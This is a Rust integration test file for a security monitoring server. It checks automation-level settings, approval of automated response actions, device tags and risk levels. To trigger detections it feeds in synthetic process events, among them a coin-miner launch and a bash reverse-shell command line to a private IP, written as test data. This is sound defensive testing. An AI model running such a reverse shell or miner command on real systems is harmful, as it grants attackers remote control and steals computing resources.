//! Server-wide settings and the device inventory's operator data, through the API of a real
//! server process: the automation level deciding what custom detections' automatic actions
//! do (sent, waiting for approval, not taken), the retention, settings surviving a restart,
//! device tags and the inventory's filters, and the risk level following open alerts.

use serde_json::{json, Value};

use crate::harness::{exec, uplink, wait_until, Api, Fixture, ServerProcess};

/// The actions of the action center on `device`, as (type, status, requested by).
fn actions(api: &Api) -> Vec<(String, String, String)> {
    let (st, v) = api.get("/api/v1/actions?limit=100");
    assert_eq!(st, 200, "{v}");
    let mut out: Vec<_> = v["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| {
            (
                a["Type"].as_str().unwrap_or_default().to_string(),
                a["Status"].as_str().unwrap_or_default().to_string(),
                a["RequestedBy"].as_str().unwrap_or_default().to_string(),
            )
        })
        .collect();
    out.sort();
    out
}

fn action_ids(api: &Api, status: &str) -> Vec<String> {
    let (_, v) = api.get(&format!("/api/v1/actions?status={status}&limit=100"));
    v["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["ActionId"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn settings_are_checked_kept_and_survive_a_restart() {
    let mut fx = Fixture::new("dev-s");
    let (st, s) = fx.api.get("/api/v1/settings");
    assert_eq!(st, 200, "{s}");
    assert_eq!(s["automation_level"], "semi", "{s}");
    assert_eq!(s["retention_days"], 30, "{s}");
    assert_eq!(s["updated"], Value::Null);
    assert_eq!(s["automation_levels"].as_array().map(Vec::len), Some(3));

    // Bad input is refused, naming the problem, and changes nothing (not even the valid
    // field sent with it).
    for (body, names) in [
        (json!({ "automation_level": "always" }), "always"),
        (
            json!({ "automation_level": "full", "retention_days": -3 }),
            "retention_days",
        ),
        (json!({ "retention_days": "ten" }), "retention_days"),
        (json!({ "colour": "red" }), "colour"),
        (json!({}), "nothing to change"),
    ] {
        let (st, v) = fx.api.patch("/api/v1/settings", body.clone());
        assert_eq!(st, 400, "{body} → {v}");
        assert!(
            v["detail"].as_str().unwrap().contains(names),
            "{body} → {v}"
        );
    }
    assert_eq!(fx.api.get("/api/v1/settings").1, s);

    let (st, v) = fx.api.patch(
        "/api/v1/settings",
        json!({ "automation_level": "full", "retention_days": 7 }),
    );
    assert_eq!(st, 200, "{v}");
    assert_eq!(
        (v["automation_level"].as_str(), v["retention_days"].as_i64()),
        (Some("full"), Some(7))
    );
    assert_eq!(v["updated_by"], "admin", "{v}");
    assert!(v["updated"].is_string(), "{v}");
    // The change is in the audit log.
    let (_, audit) = fx.api.get("/api/v1/audit?limit=20");
    assert!(audit.to_string().contains("/api/v1/settings"), "{audit}");

    // A restart keeps them (and the stored retention overrides the file's default).
    let (dir, grpc, http) = (fx.server.data_dir.clone(), fx.server.grpc, fx.server.http);
    fx.server.stop();
    fx.server = ServerProcess::start(&dir, grpc, http);
    let (st, after) = fx.server.api().get("/api/v1/settings");
    assert_eq!(st, 200);
    assert_eq!(
        (
            after["automation_level"].as_str(),
            after["retention_days"].as_i64()
        ),
        (Some("full"), Some(7))
    );
}

#[test]
fn custom_detection_actions_follow_the_automation_level() {
    let fx = Fixture::new("dev-auto");
    let up = uplink(fx.agent.clone(), &fx.agent_dir(), 64 << 20);
    let (st, rule) = fx.api.post(
        "/api/v1/custom-detections",
        json!({
            "name": "miner", "title": "Coin miner started", "severity": "high", "schedule": "1h",
            "query": "DeviceProcessEvents | where FileName == \"xmrig\" \
                      | project Timestamp, ReportId, DeviceId, FileName, FolderPath",
            "actions": ["collect_package", "quarantine_file"],
        }),
    );
    assert_eq!(st, 200, "{rule}");
    let id = rule["id"].as_str().unwrap().to_string();
    let mut pid = 100;
    // One new row, then run the rule until its alert is recorded (the scheduler may have
    // run it first).
    let mut raise = |what: &str| {
        pid += 1;
        up.send(vec![exec(
            "/tmp/.x/xmrig",
            "xmrig -o pool:3333",
            "/usr/bin/bash",
            "www-data",
            pid,
        )]);
        let before = fx.api.alerts("").len();
        wait_until(what, 60, || {
            fx.api
                .post(&format!("/api/v1/custom-detections/{id}/run"), json!({}));
            fx.api.alerts("").len() > before
        });
    };

    // semi (the default): both actions wait for approval, requested by automation.
    raise("the first alert");
    let waiting = actions(&fx.api);
    assert_eq!(
        waiting,
        [
            (
                "collect".to_string(),
                "PendingApproval".to_string(),
                "automation".to_string()
            ),
            (
                "quarantine".to_string(),
                "PendingApproval".to_string(),
                "automation".to_string()
            ),
        ],
        "{waiting:?}"
    );
    let ids = action_ids(&fx.api, "PendingApproval");
    let (st, a) = fx.api.get(&format!("/api/v1/actions/{}", ids[0]));
    assert_eq!(st, 200);
    assert!(a["Comment"].as_str().unwrap().contains("\"miner\""), "{a}");
    // Approving sends one; cancelling rejects the other; approving twice is refused.
    let (st, v) = fx.api.post(
        &format!("/api/v1/actions/{}/approve", ids[0]),
        json!({ "comment": "ok" }),
    );
    assert_eq!((st, v["Status"].as_str()), (200, Some("Pending")), "{v}");
    let (st, v) = fx
        .api
        .post(&format!("/api/v1/actions/{}/approve", ids[0]), json!({}));
    assert_eq!(st, 400, "{v}");
    assert!(
        v["detail"].as_str().unwrap().contains("PendingApproval"),
        "{v}"
    );
    let (st, v) = fx
        .api
        .post(&format!("/api/v1/actions/{}/cancel", ids[1]), json!({}));
    assert_eq!((st, v["Status"].as_str()), (200, Some("Cancelled")), "{v}");

    // full: sent at once.
    let (st, _) = fx
        .api
        .patch("/api/v1/settings", json!({ "automation_level": "full" }));
    assert_eq!(st, 200);
    raise("the second alert");
    let now = actions(&fx.api);
    assert_eq!(now.len(), 4, "{now:?}");
    assert!(action_ids(&fx.api, "PendingApproval").is_empty(), "{now:?}");

    // none: nothing taken.
    let (st, _) = fx
        .api
        .patch("/api/v1/settings", json!({ "automation_level": "none" }));
    assert_eq!(st, 200);
    raise("the third alert");
    assert_eq!(actions(&fx.api).len(), 4);
}

#[test]
fn devices_carry_tags_risk_and_exposure_and_the_inventory_filters_on_them() {
    let fx = Fixture::new("dev-t");
    let (st, v) = fx.api.patch(
        "/api/v1/devices/dev-t",
        json!({ "tags": ["pci", "web", "pci"] }),
    );
    assert_eq!(st, 200, "{v}");
    assert_eq!(v["Tags"], json!(["pci", "web"]));
    // No heartbeat with a protection state yet.
    assert_eq!(v["ExposureLevel"], "Unknown", "{v}");
    assert_eq!(v["RiskLevel"], "None", "{v}");
    // A bad tag or group is refused and nothing changes.
    for body in [
        json!({ "tags": ["ok", "no;way"] }),
        json!({ "tags": "pci" }),
        json!({ "tags": ["x"], "group": "" }),
        json!({}),
    ] {
        let (st, e) = fx.api.patch("/api/v1/devices/dev-t", body.clone());
        assert_eq!(st, 400, "{body} → {e}");
    }
    let (_, d) = fx.api.get("/api/v1/devices/dev-t");
    assert_eq!(
        (d["Tags"].clone(), d["DeviceGroup"].clone()),
        (json!(["pci", "web"]), Value::Null)
    );

    let count = |q: &str| {
        let (st, v) = fx.api.get(&format!("/api/v1/devices?limit=10&{q}"));
        assert_eq!(st, 200, "{q} → {v}");
        v["total"].as_u64().unwrap()
    };
    assert_eq!(count("tag=PCI"), 1);
    assert_eq!(count("tag=db"), 0);
    assert_eq!(count("exposure=unknown"), 1);

    // An open high-severity alert makes the device high-risk.
    let up = uplink(fx.agent.clone(), &fx.agent_dir(), 64 << 20);
    up.send(vec![exec(
        "/usr/bin/bash",
        "bash -i >& /dev/tcp/10.9.9.9/4444 0>&1",
        "/usr/sbin/nginx",
        "www-data",
        7,
    )]);
    wait_until("an alert", 60, || !fx.api.alerts("").is_empty());
    let sev = fx
        .api
        .alerts("")
        .iter()
        .map(|a| a["Severity"].as_str().unwrap().to_string())
        .max_by_key(|s| {
            ["Informational", "Low", "Medium", "High"]
                .iter()
                .position(|x| x == s)
        })
        .unwrap();
    let (_, d) = fx.api.get("/api/v1/devices/dev-t");
    assert_eq!(d["RiskLevel"], sev.as_str(), "{d}");
    assert_eq!(count(&format!("risk={sev}")), 1);
}
